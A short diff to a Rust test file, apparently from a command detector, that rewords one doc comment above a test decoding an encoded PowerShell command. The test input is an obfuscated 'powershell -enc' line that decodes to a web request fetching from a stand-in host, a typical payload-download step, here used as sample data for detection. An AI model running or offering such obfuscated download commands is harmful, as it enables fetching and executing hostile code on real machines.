@@ -389,7 +389,7 @@ fn keys_and_public_suffixes_tell_machines_from_files() {
     }
 }
 
-/// What is encoded behind a word of the same letters.
+/// Encoded text after a word of the same letters.
 #[test]
 fn encoded_command_after_its_option_is_decoded() {
     let text = "powershell -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZAByAG8AcAAuAGUAeABhAG0AcABsAGUALgBuAGUAdAA=";
